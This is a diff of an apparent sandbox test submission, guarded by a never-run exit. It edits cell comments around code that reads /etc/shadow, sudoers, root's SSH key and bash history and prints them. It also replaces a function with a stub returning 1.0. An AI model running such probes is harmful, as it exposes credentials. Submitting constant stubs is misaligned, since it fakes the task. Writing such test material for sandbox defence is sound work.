@@ -1,5 +1,5 @@
-"""The submission reads /root, /home, /etc/shadow, keys, histories, machine names and cloud
-credentials.
+"""The submission reads home folders, password files, keys, command histories and devices of the
+grader's machine, and prints what it can read.
 
 points:
     touching: 0
@@ -7,7 +7,7 @@ points:
 
 raise SystemExit("made for the sandbox: never run this file")
 
-# %% + first from _search
+# %% insert a cell after imports: the code of _search.py, then this
 import glob, os
 look("home", ["/root", "/home", os.path.expanduser("~root"), "/var", "/run", "/srv", "/boot"])
 for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.ssh/id_rsa", "/root/.bash_history",
@@ -20,6 +20,6 @@ for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.ssh/id_rsa",
         print(path, type(error).__name__)
 print("attack", "ran")
 
-# %% touching_point
+# %% replace touching_point
 def touching_point(sigma, order, delta):
     return 1.0
